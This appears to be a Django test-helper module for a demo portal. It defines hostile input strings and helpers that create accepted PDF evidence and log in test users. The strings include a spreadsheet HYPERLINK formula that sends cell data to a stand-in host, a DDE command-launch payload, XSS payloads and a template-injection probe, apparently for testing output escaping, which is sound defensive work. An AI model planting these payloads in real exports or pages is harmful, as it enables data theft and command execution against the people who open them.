"""Hostile texts, and the few steps that put them into the demo's data."""

import hashlib

from django.core.files.base import ContentFile

from criteria.models import Evidence
from ntm_portal.demo.accounts import DEMO_PASSWORD

YEAR = 2021
# The finding, and what OWASP lists beside it: a leading "+", "-" or "@" starts a formula too.
HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"bấm")'
PLUS = "+84 912 345 678"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{ 7*7 }} {% now 'Y' %}"


def rename(obj, **fields):
    for name, value in fields.items():
        setattr(obj, name, value)
    obj.save(update_fields=list(fields))
    return obj


def accepted_evidence(assessment, *, title, criterion=None, **fields) -> Evidence:
    """An accepted PDF of the assessment, stored as an upload stores it (its checksum recorded)."""
    content = b"%PDF-1.4 " + title.encode()
    evidence = Evidence(
        assessment=assessment,
        criterion=criterion,
        title=title,
        original_name=fields.pop("original_name", "tep.pdf"),
        content_type="application/pdf",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        status=Evidence.Status.ACCEPTED,
        **fields,
    )
    evidence.file.save("ignored", ContentFile(content), save=False)
    evidence.save()
    return evidence


def login(client, username):
    assert client.login(username=username, password=DEMO_PASSWORD)
    return client
